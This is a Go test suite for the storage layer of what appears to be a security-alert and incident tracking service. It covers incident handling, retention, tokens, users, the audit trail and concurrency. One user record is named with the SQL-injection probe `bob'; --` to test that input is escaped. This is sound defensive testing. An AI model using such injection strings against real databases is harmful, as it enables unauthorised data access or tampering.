	if err := s.Write(ctx, &store.Batch{Gone: []store.Gone{{ID: "d", Into: "b"}}, Next: 50}); err == nil {
		t.Error("a circle was written")
	}
	k1.Incident = "b"
	write(t, s, store.Batch{Kinds: []store.Kind{k1}, Incidents: []store.Incident{incident("b", 20)}})
	in, kinds, err = s.Incident(ctx, "b")
	fatal(t, err)
	want(t, "came back", in.ID, "b")
	want(t, "with its kind", len(kinds), 1)
	want(t, "list", incidents(t, s, store.Query{}), []string{"b", "d"})
}

func splits(t *testing.T, s store.Store) {
	ctx := t.Context()
	k1, k2 := kind(1, "a", "r", "h", ""), kind(2, "a", "r", "h", "")
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(1, 1), alertOf(2, 2)}, Kinds: []store.Kind{k1, k2}, Incidents: []store.Incident{incident("a", 10)}})
	k1.Incident, k2.Incident = "b", "c"
	write(t, s, store.Batch{Kinds: []store.Kind{k1, k2}, Incidents: []store.Incident{incident("b", 1), incident("c", 2)}, Gone: []store.Gone{{ID: "a"}}})
	_, _, err := s.Incident(ctx, "a")
	notFound(t, "split", err)
	notFound(t, "handle", s.Handle(ctx, "a", store.Handling{Status: store.Open}))
	_, err = s.History(ctx, "a")
	notFound(t, "history", err)
	want(t, "list", incidents(t, s, store.Query{}), []string{"c", "b"})
	want(t, "alerts", alerts(t, s, store.Query{Incident: "c"}), []uint64{2})
}

func handling(t *testing.T, s store.Store) {
	ctx := t.Context()
	write(t, s, store.Batch{Kinds: []store.Kind{kind(1, "a", "r", "h", "")}, Incidents: []store.Incident{incident("a", 10)}})
	notFound(t, "unknown", s.Handle(ctx, "zz", store.Handling{Status: store.Open, By: "ann"}))
	for _, h := range []store.Handling{
		{Status: store.Closed, By: "ann"}, {Status: "wontfix", By: "ann"}, {By: "ann"}, {Status: store.Handled, Finding: "test", By: "ann"},
	} {
		if err := s.Handle(ctx, "a", h); err == nil {
			t.Errorf("%+v was taken", h)
		}
	}
	for i, h := range []store.Handling{
		{Status: store.Handled, By: "ann", Why: "mine", At: at(1)},
		{Status: store.Closed, Finding: "attack", By: "ann", Why: "contained", At: at(2)},
		{Status: store.Open, By: "bob", Why: "not so", At: at(3)},
	} {
		fatal(t, s.Handle(ctx, "a", h))
		// What is written leaves it as it is.
		write(t, s, store.Batch{Incidents: []store.Incident{incident("a", 10)}})
		in, _, err := s.Incident(ctx, "a")
		fatal(t, err)
		want(t, fmt.Sprint("handling ", i), in.Handling, h)
	}
	list, err := s.History(ctx, "a")
	fatal(t, err)
	var told []string
	for _, e := range list {
		told = append(told, e.Who+" "+e.What+" "+e.Detail)
		if e.Object != "a" || e.ID == 0 {
			t.Errorf("entry %+v", e)
		}
	}
	want(t, "history", told, []string{"ann handled mine", "ann closed attack: contained", "bob reopen not so"})
	trail, err := s.AuditTrail(ctx, 0, 0)
	fatal(t, err)
	want(t, "audit trail", trail, list)
}

func reopen(t *testing.T, s store.Store) {
	ctx := t.Context()
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(1, 1)}, Kinds: []store.Kind{kind(1, "a", "r", "h", ""), kind(2, "o", "r", "h", "")},
		Incidents: []store.Incident{incident("a", 10), incident("o", 10)}})
	closed := store.Handling{Status: store.Closed, Finding: "false alarm", By: "ann", Why: "nightly", At: at(2)}
	fatal(t, s.Handle(ctx, "a", closed))
	get := func() store.Handling {
		t.Helper()
		in, _, err := s.Incident(ctx, "a")
		fatal(t, err)
		return in.Handling
	}
	repeat := alertOf(4, 1)
	repeat.Repeat = true
	// With its incident, without, of a new kind; one repeat, one of another incident.
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(2, 1), alertOf(3, 1), repeat, alertOf(5, 2)}, Incidents: []store.Incident{incident("a", 10)}})
	closed.Since = 2
	want(t, "since", get(), closed)
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(6, 1)}})
	closed.Since = 3
	want(t, "since, the incident not written", get(), closed)
	b := store.Batch{Alerts: []store.Alert{alertOf(7, 3)}, Kinds: []store.Kind{kind(3, "a", "r", "h", "")}, Incidents: []store.Incident{incident("a", 5)}, Next: 8}
	write(t, s, b)
	closed.Since = 4
	want(t, "since, a new kind and less bad", get(), closed)
	write(t, s, b)
	want(t, "since, written again", get(), closed)
	// As bad as when it was closed is not worse.
	write(t, s, store.Batch{Incidents: []store.Incident{incident("a", 10)}})
	want(t, "as bad", get(), closed)
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(8, 1)}, Incidents: []store.Incident{incident("a", 11)}})
	h := get()
	if h.Status != store.Open || h.Finding != "" || !strings.HasPrefix(h.Why, "reopened: ") || !strings.Contains(h.Why, "nightly") || h.Since != 0 {
		t.Errorf("handling: %+v", h)
	}
	list, err := s.History(ctx, "a")
	fatal(t, err)
	if n := len(list); n != 2 || list[1].What != "reopen" || list[1].Detail != h.Why {
		t.Errorf("history: %+v", list)
	}
	// Once: it is open now.
	write(t, s, store.Batch{Incidents: []store.Incident{incident("a", 12)}})
	if list, err = s.History(ctx, "a"); err != nil || len(list) != 2 {
		t.Errorf("history: %+v, %v", list, err)
	}
	// Closed again, at the rank that it has now.
	closed.Since = 0
	fatal(t, s.Handle(ctx, "a", closed))
	write(t, s, store.Batch{Incidents: []store.Incident{incident("a", 12)}})
	want(t, "closed again", get(), closed)
}

func rewind(t *testing.T, s store.Store) {
	ctx := t.Context()
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(1, 1), alertOf(2, 1)}, Kinds: []store.Kind{kind(1, "a", "r", "h", "first")}, Incidents: []store.Incident{incident("a", 10)}})
	fatal(t, s.Handle(ctx, "a", store.Handling{Status: store.Closed, Finding: "test", By: "ann", Why: "w", At: at(3)}))
	k3 := kind(3, "a", "r", "h", "second")
	k3.FirstSeq = 4
	b := store.Batch{Alerts: []store.Alert{alertOf(3, 1), alertOf(4, 3), alertOf(5, 1), alertOf(6, 3)}, Kinds: []store.Kind{k3}, Incidents: []store.Incident{incident("a", 10)}, Next: 7}
	write(t, s, b)
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(7, 0), alertOf(8, 1)}})
	before, _, err := s.Incident(ctx, "a")
	fatal(t, err)
	fatal(t, s.Rewind(ctx, 100))
	p, err := s.Position(ctx)
	fatal(t, err)
	want(t, "position, nothing forgotten", p, 9)
	fatal(t, s.Rewind(ctx, 4))
	p, err = s.Position(ctx)
	fatal(t, err)
	want(t, "position", p, 4)
	want(t, "alerts", alerts(t, s, store.Query{}), []uint64{3, 2, 1})
	want(t, "alerts of the kind", alerts(t, s, store.Query{Kind: 1}), []uint64{3, 2, 1})
	want(t, "text of the kind that is no more", incidents(t, s, store.Query{Text: "second"}), nil)
	for _, err := range s.Check(ctx) {
		t.Error(err)
	}
	in, kinds, err := s.Incident(ctx, "a")
	fatal(t, err)
	want(t, "kinds", len(kinds), 1)
	want(t, "still closed", in.Handling.Status, store.Closed)
	want(t, "since", in.Handling.Since, 1)
	st, err := s.Stats(ctx)
	fatal(t, err)
	want(t, "stats", []int64{st.Alerts, st.Removed}, []int64{3, 0})
	b.Alerts = b.Alerts[1:]
	write(t, s, b)
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(7, 0), alertOf(8, 1)}})
	want(t, "alerts again", alerts(t, s, store.Query{}), []uint64{8, 7, 6, 5, 4, 3, 2, 1})
	after, _, err := s.Incident(ctx, "a")
	fatal(t, err)
	want(t, "since again", after.Handling, before.Handling)
	fatal(t, s.Rewind(ctx, 0))
	want(t, "all forgotten", alerts(t, s, store.Query{}), nil)
	want(t, "incidents stay", incidents(t, s, store.Query{}), []string{"a"})
}

func live(t *testing.T, s store.Store) {
	ctx := t.Context()
	var b store.Batch
	for i := range 5 {
		id := fmt.Sprintf("i%d", i)
		b.Incidents = append(b.Incidents, incident(id, 10*i)) // Last is at(rank)
		b.Kinds = append(b.Kinds, kind(uint64(i+1), id, "r", "h", "text"))
	}
	b.Gone = []store.Gone{{ID: "i4", Into: "i3"}}
	write(t, s, b)
	list, kinds, err := s.Live(ctx, at(20))
	fatal(t, err)
	var ids []string
	for _, i := range list {
		ids = append(ids, i.ID)
	}
	want(t, "incidents", ids, []string{"i3", "i2"})
	b.Kinds[4].Incident = "i3"
	want(t, "kinds", kinds, []store.Kind{b.Kinds[2], b.Kinds[3], b.Kinds[4]})
	list, kinds, err = s.Live(ctx, at(1000))
	fatal(t, err)
	want(t, "none", len(list)+len(kinds), 0)
}

func liveIsBounded(t *testing.T, s store.Store) {
	ctx := t.Context()
	id := uint64(0)
	for i := range 2 {
		name := fmt.Sprintf("i%d", i)
		b := store.Batch{Incidents: []store.Incident{incident(name, i)}}
		for range store.MaxKinds + 1 {
			id++
			b.Kinds = append(b.Kinds, kind(id, name, "r", "h", ""))
		}
		write(t, s, b)
	}
	list, kinds, err := s.Live(ctx, time.Time{})
	if !errors.Is(err, store.ErrCut) || !strings.Contains(err.Error(), "1 of 2 incidents") {
		t.Errorf("error: %v", err)
	}
	if len(list) != 1 || list[0].ID != "i1" || len(kinds) != store.MaxKinds+1 {
		t.Errorf("%d incidents, %d kinds", len(list), len(kinds))
	}
	in, kinds, err := s.Incident(ctx, "i0")
	if !errors.Is(err, store.ErrCut) || in.ID != "i0" || len(kinds) != store.MaxKinds {
		t.Errorf("%s with %d kinds: %v", in.ID, len(kinds), err)
	}
}

func silences(t *testing.T, s store.Store) {
	ctx := t.Context()
	a := store.Silence{Condition: `proc.name = "x"`, Why: "noise", By: "ann", Created: at(1), Until: at(100)}
	var err error
	a.ID, err = s.PutSilence(ctx, a)
	fatal(t, err)
	b := store.Silence{Condition: "always", Why: "test", By: "bob", Created: at(2), Until: at(200)}
	b.ID, err = s.PutSilence(ctx, b)
	fatal(t, err)
	notFound(t, "end", s.EndSilence(ctx, 99, "ann", at(3)))
	fatal(t, s.EndSilence(ctx, a.ID, "bob", at(3)))
	fatal(t, s.EndSilence(ctx, a.ID, "eve", at(4)))
	// Changing one that has ended does not bring it back.
	a.Why = "noise of the build"
	_, err = s.PutSilence(ctx, a)
	fatal(t, err)
	a.Ended = at(3)
	list, err := s.Silences(ctx, false)
	fatal(t, err)
	want(t, "that hold", list, []store.Silence{b})
	list, err = s.Silences(ctx, true)
	fatal(t, err)
	want(t, "all", list, []store.Silence{a, b})
	_, err = s.PutSilence(ctx, store.Silence{ID: 99})
	notFound(t, "put", err)
	trail, err := s.AuditTrail(ctx, 0, 0)
	fatal(t, err)
	if len(trail) != 1 || trail[0].Who != "bob" || trail[0].What != "end silence" {
		t.Errorf("trail: %+v", trail)
	}
}

func deadLetters(t *testing.T, s store.Store) {
	ctx := t.Context()
	var put []store.DeadLetter
	for i, raw := range [][]byte{nil, {}, []byte("{broken"), {0, 255, 10}} {
		d := store.DeadLetter{Received: at(i), From: "10.0.0.1:99", Reason: "it's broken", Raw: raw}
		var err error
		d.ID, err = s.PutDeadLetter(ctx, d)
		fatal(t, err)
		put = append(put, d)
	}
	fatal(t, s.MarkReplayed(ctx, put[2].ID, at(50)))
	put[2].Replayed = at(50)
	notFound(t, "mark", s.MarkReplayed(ctx, 99, at(1)))
	list, err := s.DeadLetters(ctx, 0, 0)
	fatal(t, err)
	want(t, "all", list, put)
	list, err = s.DeadLetters(ctx, put[1].ID, 1)
	fatal(t, err)
	want(t, "page", list, put[2:3])
	st, err := s.Stats(ctx)
	fatal(t, err)
	want(t, "stats", st.DeadLetters, 4)
	// They go by age, and are counted.
	n, err := s.Retain(ctx, at(100), 98500*time.Millisecond, 0)
	fatal(t, err)
	want(t, "alerts removed", n, 0)
	st, err = s.Stats(ctx)
	fatal(t, err)
	want(t, "stats", []int64{st.DeadLetters, st.DeadLettersRemoved}, []int64{2, 2})
}

func tokens(t *testing.T, s store.Store) {
	ctx := t.Context()
	a := store.Token{Name: "falco", Hash: bytes.Repeat([]byte{1}, 32), Scopes: []string{"ingest"}, Created: at(1)}
	b := store.Token{Name: "me", Hash: bytes.Repeat([]byte{2}, 32), Scopes: []string{"read", "admin"}, Created: at(2)}
	for _, x := range []*store.Token{&a, &b} {
		var err error
		x.ID, err = s.PutToken(ctx, *x)
		fatal(t, err)
	}
	if _, err := s.PutToken(ctx, store.Token{Name: "again", Hash: a.Hash}); err == nil {
		t.Error("two tokens of one hash")
	}
	if _, err := s.PutToken(ctx, store.Token{Name: "none"}); err == nil {
		t.Error("a token without a hash")
	}
	got, err := s.TokenByHash(ctx, b.Hash)
	fatal(t, err)
	want(t, "by hash", got, b)
	_, err = s.TokenByHash(ctx, []byte("x"))
	notFound(t, "unknown", err)
	_, err = s.TokenByHash(ctx, nil)
	notFound(t, "nil", err)
	fatal(t, s.TokenUsed(ctx, a.ID, at(10)))
	fatal(t, s.TokenUsed(ctx, a.ID, at(11)))
	fatal(t, s.TokenUsed(ctx, a.ID, at(5)))
	a.Used = at(10)
	notFound(t, "used", s.TokenUsed(ctx, 99, at(1)))
	fatal(t, s.RevokeToken(ctx, b.ID, at(20)))
	fatal(t, s.RevokeToken(ctx, b.ID, at(30)))
	b.Revoked = at(20)
	notFound(t, "revoke", s.RevokeToken(ctx, 99, at(1)))
	_, err = s.TokenByHash(ctx, b.Hash)
	notFound(t, "revoked", err)
	list, err := s.Tokens(ctx)
	fatal(t, err)
	want(t, "all", list, []store.Token{a, b})
	fatal(t, s.TokenUsed(ctx, a.ID, at(100)))
	got, err = s.TokenByHash(ctx, a.Hash)
	fatal(t, err)
	want(t, "used", got.Used, at(100))
}

func users(t *testing.T, s store.Store) {
	ctx := t.Context()
	_, err := s.User(ctx, "ann")
	notFound(t, "unknown", err)
	b := store.User{Name: "bob'; --", Password: "$argon2id$x", Scopes: []string{"read"}, Created: at(1)}
	a := store.User{Name: "ann", Scopes: []string{"read", "handle"}, Created: at(2)}
	fatal(t, s.PutUser(ctx, b))
	fatal(t, s.PutUser(ctx, a))
	a.Password = "$argon2id$y"
	fatal(t, s.PutUser(ctx, a))
	got, err := s.User(ctx, "ann")
	fatal(t, err)
	want(t, "user", got, a)
	list, err := s.Users(ctx)
	fatal(t, err)
	want(t, "all", list, []store.User{a, b})
	fatal(t, s.DeleteUser(ctx, b.Name))
	notFound(t, "delete", s.DeleteUser(ctx, b.Name))
	if s.PutUser(ctx, store.User{}) == nil {
		t.Error("a user without a name")
	}
}

func auditTrail(t *testing.T, s store.Store) {
	ctx := t.Context()
	var put []store.AuditEntry
	for i := range 5 {
		e := store.AuditEntry{At: at(i), Who: "ann", What: "sign-in", Object: fmt.Sprint(i), Detail: "d"}
		fatal(t, s.Audit(ctx, e))
		put = append(put, e)
	}
	list, err := s.AuditTrail(ctx, 0, 2)
	fatal(t, err)
	rest, err := s.AuditTrail(ctx, list[1].ID, 0)
	fatal(t, err)
	list = append(list, rest...)
	for i := range put {
		put[i].ID = list[i].ID
	}
	want(t, "trail", list, put)
}

func retainByAge(t *testing.T, s store.Store) {
	ctx := t.Context()
	// One incident stays open, one is closed, one is closed and goes on; some
	// alerts are of no kind. An hour between the first and the last.
	var b store.Batch
	for i, id := range []string{"open", "closed", "lasting", "old"} {
		b.Incidents = append(b.Incidents, incident(id, i))
		b.Kinds = append(b.Kinds, kind(uint64(i+1), id, "r-"+id, "h", "text of "+id))
	}
	b.Incidents = append(b.Incidents, incident("merged", 9))
	b.Gone = []store.Gone{{ID: "merged", Into: "closed"}}
	for i := range uint64(360) {
		k := i%3 + 1
		switch {
		case i == 5:
			k = 4
		case i == 6:
			k = 0
		case i > 100 && k == 2:
			k = 3
		}
		a := alertOf(i, k)
		a.Received = Start.Add(time.Duration(i) * 10 * time.Second)
		b.Alerts = append(b.Alerts, a)
	}
	write(t, s, b)
	for _, id := range []string{"closed", "lasting", "old"} {
		fatal(t, s.Handle(ctx, id, store.Handling{Status: store.Closed, Finding: "test", By: "ann", Why: "w", At: at(1)}))
	}
	survivors := func(soft, hard time.Time) (seqs []uint64) {
		for _, a := range b.Alerts {
			if a.Received.Before(hard) || a.Received.Before(soft) && a.Kind != 1 {
				continue
			}
			seqs = append(seqs, a.Seq)
		}
		return seqs
	}
	left := len(b.Alerts)
	removed := int64(0)
	for _, after := range []time.Duration{0, 40 * time.Minute, 80 * time.Minute, 30 * time.Hour} {
		now := Start.Add(after)
		expect := survivors(now.Add(-30*time.Minute), now.Add(-60*time.Minute))
		n, err := s.Retain(ctx, now, 30*time.Minute, 0)
		fatal(t, err)
		want(t, fmt.Sprint("removed after ", after), n, int64(left-len(expect)))
		removed += n
		left = len(expect)
		want(t, fmt.Sprint("alerts after ", after), alerts(t, s, store.Query{OldestFirst: true, Limit: 1000}), expect)
		for _, seq := range expect {
			a, err := s.Alert(ctx, seq)
			fatal(t, err)
			want(t, "raw", string(a.Raw), fmt.Sprintf(`{"alert":%d}`, seq))
		}
		for _, err := range s.Check(ctx) {
			t.Errorf("after %v: %v", after, err)
		}
		st, err := s.Stats(ctx)
		fatal(t, err)
		want(t, "stats", []int64{st.Alerts, st.Removed}, []int64{int64(left), removed})
	}
	want(t, "incidents", incidents(t, s, store.Query{}), nil)
	want(t, "text", incidents(t, s, store.Query{Text: "text"}), nil)
	_, _, err := s.Incident(ctx, "merged")
	notFound(t, "a link to what was removed", err)
	st, err := s.Stats(ctx)
	fatal(t, err)
	want(t, "kinds and incidents", st.Kinds+st.Incidents, 0)
}

func retainBySize(t *testing.T, s store.Store) {
	ctx := t.Context()
	noise := func(n uint64) []byte { // does not compress well
		b := make([]byte, 2000)
		x := n*2654435761 + 1
		for i := range b {
			x ^= x << 13
			x ^= x >> 7
			x ^= x << 17
			b[i] = byte(x)
		}
		return b
	}
	write(t, s, store.Batch{Incidents: []store.Incident{incident("i", 1), incident("old", 2)}, Kinds: []store.Kind{kind(1, "i", "r", "h", ""), kind(2, "old", "r", "h", "")}})
	for i := range uint64(20) {
		var b store.Batch
		for j := range uint64(500) {
			n := i*500 + j
			a := alertOf(n, 1)
			if n < 10 {
				a.Kind = 2
			}
			a.Raw = noise(n)
			b.Alerts = append(b.Alerts, a)
		}
		write(t, s, b)
	}
	const bound = 10 << 20
	n, err := s.Retain(ctx, at(100), 0, bound)
	fatal(t, err)
	if n < 4000 || n > 7000 {
		t.Errorf("%d of 10000 removed", n)
	}
	// The oldest went, open or not, and what is left is whole.
	left := alerts(t, s, store.Query{OldestFirst: true, Limit: 1000})
	if len(left) != 10000-int(n) || left[0] != uint64(n) {
		t.Errorf("%d left, from %d", len(left), left[0])
	}
	a, err := s.Alert(ctx, left[0])
	fatal(t, err)
	if !bytes.Equal(a.Raw, noise(left[0])) {
		t.Error("an alert is not what it was")
	}
	// Its kind is quiet for less than a day, so it is still there.
	want(t, "incidents", incidents(t, s, store.Query{}), []string{"old", "i"})
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(20000, 2)}})
	n, err = s.Retain(ctx, at(200), 0, bound+1<<20)
	fatal(t, err)
	want(t, "nothing more to remove", n, 0)
	// A bound that cannot be kept ends when nothing is left.
	n, err = s.Retain(ctx, at(0).Add(100*time.Hour), 0, 1)
	fatal(t, err)
	want(t, "all removed", int(n), len(left)+1)
	_, err = s.Retain(ctx, at(0).Add(200*time.Hour), 0, 1)
	fatal(t, err)
	want(t, "incidents", incidents(t, s, store.Query{}), nil)
	st, err := s.Stats(ctx)
	fatal(t, err)
	want(t, "removed", st.Removed, 10001)
}

func backup(t *testing.T, s store.Store) {
	world(t, s)
	var copies [2]bytes.Buffer
	for i := range copies {
		fatal(t, s.Backup(t.Context(), &copies[i]))
		if copies[i].Len() == 0 {
			t.Error("an empty backup")
		}
	}
	broken := errors.New("the receiver is gone")
	if err := s.Backup(t.Context(), failing{broken}); !errors.Is(err, broken) {
		t.Errorf("error: %v", err)
	}
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(5000, 1)}})
}

type failing struct{ error }

func (f failing) Write([]byte) (int, error) { return 0, f.error }

// concurrent reads, handles and retains while batches are written: what is
// read is of one moment.
func concurrent(t *testing.T, s store.Store) {
	const batches, size = 40, 50
	ctx := t.Context()
	write(t, s, store.Batch{Incidents: []store.Incident{incident("i", 1)}, Kinds: []store.Kind{kind(1, "i", "r", "h", "word")}})
	var wg sync.WaitGroup
	done := make(chan struct{})
	for _, f := range []func() error{
		func() error {
			page, err := s.Alerts(ctx, store.Query{Rule: "r", Limit: 1000})
			if err == nil && len(page.Items)%size != 0 {
				err = fmt.Errorf("%d alerts: half a batch", len(page.Items))
			}
			return err
		},
		func() error {
			in, kinds, err := s.Incident(ctx, "i")
			if err == nil && len(kinds) > 0 && in.Count != kinds[0].Count {
				err = fmt.Errorf("an incident of %d with a kind of %d", in.Count, kinds[0].Count)
			}
			return err
		},
		func() error { return second(s.Incidents(ctx, store.Query{Text: "word"})) },
		func() error { return s.Audit(ctx, store.AuditEntry{Who: "x", What: "y"}) },
		func() error { return second(s.Retain(ctx, Start, time.Hour, 1<<30)) },
		func() error { return s.Backup(ctx, &bytes.Buffer{}) },
	} {
		wg.Go(func() {
			for {
				if err := f(); err != nil {
					t.Error(err)
					return
				}
				select {
				case <-done:
					return
				default:
				}
			}
		})
	}
	for i := range batches {
		in, k := incident("i", 1), kind(1, "i", "r", "h", fmt.Sprint("word ", i))
		in.Count, k.Count = i, i
		b := store.Batch{Incidents: []store.Incident{in}, Kinds: []store.Kind{k}}
		for j := range size {
			b.Alerts = append(b.Alerts, alertOf(uint64(i*size+j), 1))
		}
		write(t, s, b)
	}
	close(done)
	wg.Wait()
}

// cancelled calls end, and leave the store as it was.
func cancelled(t *testing.T, s store.Store) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	b := store.Batch{Alerts: []store.Alert{alertOf(1, 0)}, Next: 2}
	if err := s.Write(ctx, &b); !errors.Is(err, context.Canceled) {
		t.Errorf("Write: %v", err)
	}
	if _, err := s.Alerts(ctx, store.Query{}); !errors.Is(err, context.Canceled) {
		t.Errorf("Alerts: %v", err)
	}
	want(t, "alerts", alerts(t, s, store.Query{}), nil)
	write(t, s, b)
	want(t, "alerts", alerts(t, s, store.Query{}), []uint64{1})
}
